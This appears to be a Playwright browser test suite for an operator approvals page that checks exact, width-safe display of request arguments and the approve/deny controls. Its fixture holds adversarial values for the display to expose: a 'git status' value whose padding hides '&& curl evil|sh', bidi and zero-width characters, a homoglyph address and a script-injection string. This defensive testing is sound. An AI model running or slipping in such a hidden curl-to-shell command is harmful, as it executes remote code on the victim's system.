"""Requests of every kind on the page of an operator, whole and exact at any width."""

import re
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from app.calls.exact_json import dump_exact
from app.calls.json_types import JsonObject, JsonValue
from tests.browser.conftest import Scripted
from tests.web.scripted import OPERATOR_TOKEN
from tests.web.scripted_approvals import ScriptedApprovals, asked

pytestmark = pytest.mark.browser
LINES = "\n".join(f"line {number} of a long text" for number in range(200))
KINDS: JsonObject = {
    "invoice": "INV-1",
    "amount": 1250,
    "reason": "two\nlines\tand a tab",
    "text": "plain",
    "empty": "",
    "like_true": "true",
    "true": True,
    "false": False,
    "null": None,
    "big": 12345678901234567890,
    "object": {},
    "array": [],
    "nested": {"a": [1, {"b": "c"}, []], "d": {"e": None}},
    "edges": "  both  ",
    "gap": "git status" + " " * 400 + "&& curl evil|sh",
    "invisible": "a\u200bb\u200b\u200bc\u00ad",
    "bidi": "\u202eevil\u2066",
    "mixed": "p\u0430ypal@ex\u0430mple.com",
    "ends": "cr\r\nlf\n\n",
    "right_to_left": "\u05e9\u05dc\u05d5\u05dd",
    "emoji": "\U0001f469\u200d\U0001f4bb",
    "<b>&amp;": '"</dd><script>',
    "unbroken": "x" * 300,
}


def leaves(value: JsonValue, path: str = "") -> dict[str, JsonValue]:
    if isinstance(value, dict) and (value or not path):
        steps = list(value.items())
    elif isinstance(value, list) and value:
        steps = [(str(index), inner) for index, inner in enumerate(value)]
    else:
        return {path: value}
    return {
        where: leaf
        for step, inner in steps
        for where, leaf in leaves(inner, f"{path}.{step}" if path else step).items()
    }


def literal(value: JsonValue) -> str:
    return value if isinstance(value, str) else dump_exact(value)


def read_back(pieces: list[tuple[str, str]]) -> str:
    """The value that a reader of the page would type: marks turned into what they stand for."""
    return "".join(_source(kind, text) for kind, text in pieces)


def _source(kind: str, text: str) -> str:
    count = int(found[1]) if (found := re.search(r"\u00d7(\d+)\s*$", text)) else 1
    match kind:
        case "":
            return text
        case "none":
            return ""
        case "mixed":
            return text.partition(" ")[0]
        case "space" if not text.startswith("U+"):
            if found:
                return {"\u2423": " ", "\u21e5": "\t", "\u21b5": "\n"}[text[0]] * count
            return (
                text.replace("\u2423", " ")
                .replace("\u21e5", "")
                .replace("\u21b5", "")
                .replace("\u240d", "\r")
            )
        case _:
            named = re.match(r"U\+([0-9A-F]+)", text)
            assert named
            return chr(int(named[1], 16)) * count


def enter(page: Page, server: Scripted) -> None:
    page.goto(f"{server.address}/approvals")
    page.locator("#token").fill(OPERATOR_TOKEN)
    page.keyboard.press("Enter")
    page.wait_for_selector(".office")
    page.wait_for_load_state()  # the script is there


def put(server: Scripted, number: int, arguments: JsonObject) -> str:
    approvals: ScriptedApprovals = server.conversations.approvals
    request = asked(number, arguments)

    async def put_there() -> None:
        approvals.put(request)

    server.run(put_there())
    return request.id


def no_scroll_sideways(page: Page) -> None:
    wide = page.evaluate(
        """() => [...document.querySelectorAll("main *")].filter(one =>
            one.scrollWidth > one.clientWidth + 1 && getComputedStyle(one).overflowX != "visible"
            && one.clientWidth > 1).map(one => one.outerHTML.slice(0, 80))"""
    )
    assert wide == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_what_stands_there_is_the_value_for_every_kind(page: Page, server: Scripted) -> None:
    put(server, 1, KINDS)
    enter(page, server)
    shown: list[tuple[str, list[tuple[str, str]]]] = page.locator("[data-argument]").evaluate_all(
        """rows => rows.map(row => [row.dataset.argument,
            [...row.querySelector("[data-exact]").childNodes].map(part =>
                [part.nodeName == "MARK" ? part.className : "", part.textContent])])"""
    )
    expected = {name: literal(value) for name, value in leaves(KINDS).items()}
    assert {name: read_back(pieces) for name, pieces in shown} == expected
    assert len(shown) == len(expected)
    kinds: dict[str, Any] = dict(
        page.locator("[data-argument]:has(.of)").evaluate_all(
            "rows => rows.map(row => [row.dataset.argument, row.querySelector('.of').innerText])"
        )
    )
    assert (kinds["true"], kinds["like_true"]) == ("yes or no", "text")
    for width in (1100, 375):
        page.set_viewport_size({"width": width, "height": 700})
        no_scroll_sideways(page)


def test_a_long_value_is_read_to_its_end_before_it_can_be_approved(
    page: Page, server: Scripted
) -> None:
    put(server, 1, {"reason": LINES, "amount": 5})
    enter(page, server)
    approve = page.locator("[name=decision][value=approve]")
    deny = page.locator("[name=decision][value=deny]")
    value = page.locator("[data-argument=reason] [data-exact]")
    expect(page.locator("[data-argument=reason] .of")).to_have_text(f"{len(LINES):,} characters")
    assert value.evaluate("box => box.scrollHeight > box.clientHeight")
    for _ in range(2):
        expect(approve).to_be_disabled()
        expect(deny).to_be_enabled()
        approve.scroll_into_view_if_needed()
    page.locator(".request").focus()
    page.keyboard.press("a")
    page.keyboard.press("y")
    expect(page.locator(".request")).to_have_attribute("data-state", "waiting")
    value.scroll_into_view_if_needed()
    value.focus()
    page.keyboard.press("End")
    page.wait_for_function("box => box.scrollTop > 0", arg=value.element_handle())
    expect(approve).to_be_enabled()
    page.locator(".request").focus()
    page.keyboard.press("a")
    page.keyboard.press("y")
    expect(page.locator(".request")).to_have_attribute("data-state", "approved")


def test_a_queue_on_a_phone_is_worked_by_touch(page: Page, server: Scripted) -> None:
    page.set_viewport_size({"width": 375, "height": 700})
    for number in (1, 2):
        put(server, number, {"invoice": "x" * 200, "amount": number, "desk": "y" * 200})
    enter(page, server)
    no_scroll_sideways(page)
    requests = page.locator(".request")
    for button in page.locator("[name=decision]").all():
        box = button.bounding_box()
        assert box
        assert box["height"] >= 36
    requests.first.get_by_role("button", name="Deny").click()
    expect(requests.first).to_have_attribute("data-state", "denied")
    expect(requests.last).to_have_attribute("data-state", "waiting")


def test_single_keys_can_be_turned_off_and_stay_off(page: Page, server: Scripted) -> None:
    put(server, 1, {"amount": 1})
    enter(page, server)
    page.keyboard.press("?")
    page.get_by_label("Single keys work on this page").uncheck()
    for _ in range(2):
        page.locator(".request").focus()
        page.keyboard.press("a")
        page.keyboard.press("y")
        expect(page.locator("[data-armed]")).to_have_count(0)
        expect(page.locator(".request")).to_have_attribute("data-state", "waiting")
        page.reload()


def test_after_a_decision_by_mouse_the_keys_go_on_from_there(page: Page, server: Scripted) -> None:
    for number in (1, 2, 3):
        put(server, number, {"invoice": "INV-1", "amount": number})
    enter(page, server)
    requests = page.locator(".request")
    requests.first.locator("[name=decision][value=deny]").click()
    expect(requests.first).to_have_attribute("data-state", "denied")
    expect(requests.first.locator(".decided")).to_be_visible()
    for key in "jay":
        page.keyboard.press(key)
    expect(requests.nth(1)).to_have_attribute("data-state", "approved")
    expect(requests.last).to_have_attribute("data-state", "waiting")
